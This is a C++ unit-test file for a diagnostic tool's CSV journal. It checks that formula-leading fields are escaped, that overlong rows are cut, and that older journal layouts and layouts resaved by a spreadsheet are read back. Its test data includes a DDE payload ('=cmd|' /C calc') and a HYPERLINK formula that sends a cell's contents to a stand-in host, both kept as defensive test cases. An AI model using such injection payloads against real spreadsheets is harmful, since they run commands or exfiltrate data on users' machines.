// The journal's own rules: fields no spreadsheet runs, read back exactly;
// journals in the older layout and saved back by a spreadsheet read and
// appended in their own form.
#include <gtest/gtest.h>

#include "journal_test_files.h"
#include "report/csv.h"
#include "report/journal.h"

namespace {

using namespace journal_test;

TEST(Csv, FieldsThatStartAFormulaAreNeutralisedAndReadBackAsSent) {
    struct Row {
        std::string field, written;
    } rows[] = {
        {"=2+5", "'=2+5"},
        {"+1+1", "'+1+1"},
        {"-1", "'-1"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tTAB", "'\tTAB"},
        {"\rCR", "\"'\rCR\""},
        {"=HYPERLINK(\"http://x/?d=\"&A1,\"details\")", "\"'=HYPERLINK(\"\"http://x/?d=\"\"&A1,\"\"details\"\")\""},
        {"'own apostrophe", "''own apostrophe"},  // comes back with its apostrophe
        {"''", "'''"},
        {"1,5", "\"1,5\""},  // a spreadsheet that splits on commas keeps the column
        {"a=b", "a=b"},
        {"0 470 506 917", "0 470 506 917"},
        {"", ""},
    };
    for (const Row& row : rows) {
        SCOPED_TRACE(row.field);
        EXPECT_EQ(report::CsvLine({row.field, "x"}), row.written + ";x\r\n");
        const std::vector<report::CsvRow> back = report::ParseCsv(report::CsvLine({row.field, "x"}));
        ASSERT_EQ(back.size(), 1u);
        EXPECT_EQ(back[0].fields, (std::vector<std::string>{row.field, "x"}));
        EXPECT_EQ(report::ParseCsv(report::CsvLine({"x", row.field}, ','))[0].fields[1], row.field);
    }
}

TEST(Csv, ARowLongerThanAnyRecordIsCutAndTheNextOneReadWhole) {
    // A quote that never closes would take the rest of the file into one field.
    const std::string text = "a;\"" + std::string(report::CsvReader::kMostRowBytes, 'x') + "\r\nb;c\r\n";
    const std::vector<report::CsvRow> rows = report::ParseCsv(text);
    ASSERT_EQ(rows.size(), 2u);
    EXPECT_FALSE(rows[0].complete);
    EXPECT_EQ(rows[1].fields, (std::vector<std::string>{"b", "c"}));
}

TEST_F(TestFolder, EveryHostileFieldComesBackExactly) {
    report::Diagnosis d;
    d.port = "=cmd|' /C calc'!A0";
    d.identification = {"0 470 506 917", "+1+1", "'quoted", "-VR1708512 3470\xE2\x81\xA0"};
    d.version = "@version";
    d.faults.done = true;
    d.faults.faults = {{0x53, 2, ""}};
    report::LocalTime t;
    t.year = 2026, t.month = 12, t.day = 8, t.hour = 9, t.minute = 5, t.second = 3, t.offsetMinutes = 180;
    const report::JournalEntry written = report::JournalRecord(report::JournalEvent::FaultRead, d, t);
    ASSERT_FALSE(report::AppendJournalEntries(journal, {written}).Failed());
    const std::vector<report::JournalEntry> back = report::ReadJournal(journal);
    ASSERT_EQ(back.size(), 1u);
    EXPECT_EQ(back[0].fields, written.fields);
    EXPECT_EQ(back[0].Field("time"), "2026-12-08T09:05:03+03:00");
    const std::string raw = ReadAll(journal);
    EXPECT_NE(raw.find("2026-12-08;09:05:03;UTC+03:00;fault read;'=cmd|' /C calc'!A0\xE2\x81\xA0;"),
              std::string::npos)
        << raw;
    for (const char* hostile : {";=", ";+", ";-", ";@"}) EXPECT_EQ(raw.find(hostile), std::string::npos) << hostile;
}

TEST_F(TestFolder, OlderAndSpreadsheetSavedJournalsAreReadAndAppendedInTheirOwnForm) {
    struct Row {
        const char* name;
        std::string text;
        std::string appendedLine;  // the line appended, as the file's own form has it
    } rows[] = {
        {"older layout, as the program wrote it",
         "\xEF\xBB\xBFtime;event;port;bosch_number;id_number;original_number;serial_number;faults;erased;version\r\n"
         "2026-12-07T19:26:11+00:00;fault read;SIM;0 470 506 917;PU4471    0218;4B1907401S;VR1708512 3470;53:2;"
         "no;0.1.0\r\n",
         "2026-12-09T10:00:00+03:00;fault read;SIM\xE2\x81\xA0;;;;VR2000001 1111\xE2\x81\xA0;53:2\xE2\x81\xA0;no;\r\n"},
        {"older layout saved back with commas, no mark, LF",
         "time,event,port,bosch_number,id_number,original_number,serial_number,faults,erased,version\n"
         "2026-12-07T19:26:11+00:00,fault read,SIM,0 470 506 917,PU4471    0218,4B1907401S,VR1708512 3470,53:2,"
         "no,0.1.0\n",
         "2026-12-09T10:00:00+03:00,fault read,SIM\xE2\x81\xA0,,,,VR2000001 1111\xE2\x81\xA0,53:2\xE2\x81\xA0,no,\n"},
        {"saved back with commas and LF, its last record cut inside a quote",
         "time,event,port,bosch_number,id_number,original_number,serial_number,faults,erased,version\n"
         "2026-12-07T19:26:11+00:00,fault read,SIM,0 470 506 917,PU4471    0218,4B1907401S,VR1708512 3470,53:2,"
         "no,0.1.0\n2026-12-08T08:00:00+00:00,fault read,\"COM",
         "\"\n2026-12-09T10:00:00+03:00,fault read,SIM\xE2\x81\xA0,,,,VR2000001 1111\xE2\x81\xA0,53:2\xE2\x81\xA0,no,\n"},
        {"current layout saved back with commas and Russian dates, a column added",
         "date,time_of_day,zone,event,port,bosch_number,id_number,original_number,serial_number,faults,erased,"
         "version,note\r\n"
         "07.12.2026,19:26:11,UTC+00:00,fault read,SIM,0 470 506 917,PU4471    0218,4B1907401S,VR1708512 3470,53:2,"
         "no,0.1.0,checked\r\n",
         "2026-12-09,10:00:00,UTC+03:00,fault read,SIM\xE2\x81\xA0,,,,VR2000001 1111\xE2\x81\xA0,53:2\xE2\x81\xA0,no,,"
         "\r\n"},
    };
    for (const Row& row : rows) {
        SCOPED_TRACE(row.name);
        fs::create_directories(fs::path(journal).parent_path());
        WriteAll(journal, row.text);
        std::vector<report::JournalEntry> read = report::ReadJournal(journal);
        ASSERT_FALSE(read.empty());
        const std::size_t before = read.size();
        EXPECT_FALSE(read[0].cut);
        EXPECT_EQ(read[0].Field("time"), "2026-12-07T19:26:11+00:00");
        EXPECT_TRUE(report::SerialMatches(read[0], "VR1708512"));
        EXPECT_TRUE(report::SinceMatches(read[0], "2026-12-07"));
        EXPECT_EQ(read[0].Field("id_number"), "PU4471    0218");

        ASSERT_FALSE(report::AppendJournalEntries(journal, {Entry("2026-12-09T10:00:00+03:00", "VR2000001 1111")})
                         .Failed());
        EXPECT_EQ(ReadAll(journal), row.text + row.appendedLine);
        read = report::ReadJournal(journal);
        ASSERT_EQ(read.size(), before + 1);
        EXPECT_FALSE(read.back().cut);
        EXPECT_TRUE(report::SerialMatches(read.back(), "VR2000001"));
        EXPECT_EQ(read.back().Field("time"), "2026-12-09T10:00:00+03:00");
    }
}

TEST_F(TestFolder, AFileThatIsNoJournalIsLeftAlone) {
    fs::create_directories(fs::path(journal).parent_path());
    WriteAll(journal, "name;value\r\nx;1\r\n");
    const report::WriteFailure failure =
        report::AppendJournalEntries(journal, {Entry("2026-12-09T10:00:00+03:00", "VR2000001 1111")});
    EXPECT_EQ(failure.fault, report::WriteFault::Other);
    EXPECT_EQ(ReadAll(journal), "name;value\r\nx;1\r\n");
}

}  // namespace
